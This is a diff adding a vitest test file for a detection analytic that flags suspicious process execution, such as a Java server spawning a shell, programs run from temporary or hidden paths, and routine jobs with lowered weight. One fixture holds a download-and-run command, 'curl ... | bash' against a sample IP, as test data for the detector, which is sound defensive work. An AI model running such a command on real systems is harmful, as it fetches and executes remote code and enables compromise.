@@ -1,0 +1,62 @@
+import { describe, expect, it } from 'vitest';
+import { microsPerDay } from '../../../base/time.ts';
+import { dayStart, event, findingsOf } from '../../../../tests/support/event-store.ts';
+import { analytic } from './index.ts';
+
+const shellOfJava = {
+  event_action: 'exec',
+  event_outcome: 'success',
+  host_name: 'web01',
+  process_pid: 900,
+  process_name: 'sh',
+  process_executable: '/bin/sh',
+  process_parent_executable: '/usr/lib/jvm/java',
+  process_parent_name: 'java',
+  process_command_line: 'sh -c curl -s http://203.0.113.66:8888/i.sh | bash',
+  user_name: 'shop',
+} as const;
+
+describe('suspicious execution', () => {
+  it('tells a server program that starts a shell which downloads and runs', async () => {
+    const [finding, ...others] = await findingsOf(analytic, [event('process', shellOfJava)]);
+    expect(others).toEqual([]);
+    expect(finding).toMatchObject({ detector: 'analytics/execution', severity: 'critical', count: 1 });
+    expect(finding?.attack).toEqual(expect.arrayContaining(['T1190', 'T1059.004', 'T1105']));
+    expect(finding?.entities).toEqual(expect.arrayContaining([{ kind: 'process', value: 'web01/900/sh' }]));
+    expect(finding?.reasons.map((reason) => reason.what)).toEqual(
+      expect.arrayContaining(['a server program started a shell', 'downloads and runs in one line', 'command']),
+    );
+  });
+
+  it('weighs less what the same parent does on several days', async () => {
+    const command = 'sh -c /opt/ci/step.sh';
+    const days = [0, 1, 2, 3].map((day) =>
+      event('process', { ...shellOfJava, process_command_line: command, time: dayStart + day * microsPerDay }),
+    );
+    const [once] = await findingsOf(analytic, days.slice(0, 1));
+    const [usual] = await findingsOf(analytic, days, { min_score: 0 });
+    expect(once?.severity).toBe('high');
+    expect(usual?.severity).toBe('low');
+    expect(await findingsOf(analytic, days)).toEqual([]);
+  });
+
+  it.each([
+    ['/dev/shm/.a', 'runs from a temporary place'],
+    ['/usr/lib/.x/d', 'runs from a hidden place'],
+  ])('tells a program run from %s', async (path, what) => {
+    const [finding] = await findingsOf(analytic, [
+      event('process', { event_action: 'exec', host_name: 'a', process_executable: path, process_command_line: path }),
+    ]);
+    expect(finding?.reasons.map((reason) => reason.what)).toContain(what);
+  });
+
+  it('leaves alone what failed, what is no start, and daily work', async () => {
+    const events = [
+      event('process', { ...shellOfJava, event_outcome: 'failure' }),
+      event('process', { ...shellOfJava, event_action: 'exit' }),
+      event('process', { event_action: 'exec', process_executable: '/usr/bin/ls', process_parent_executable: '/bin/bash', process_command_line: 'ls -l' }),
+      event('process', { event_action: 'exec' }),
+    ];
+    expect(await findingsOf(analytic, events)).toEqual([]);
+  });
+});
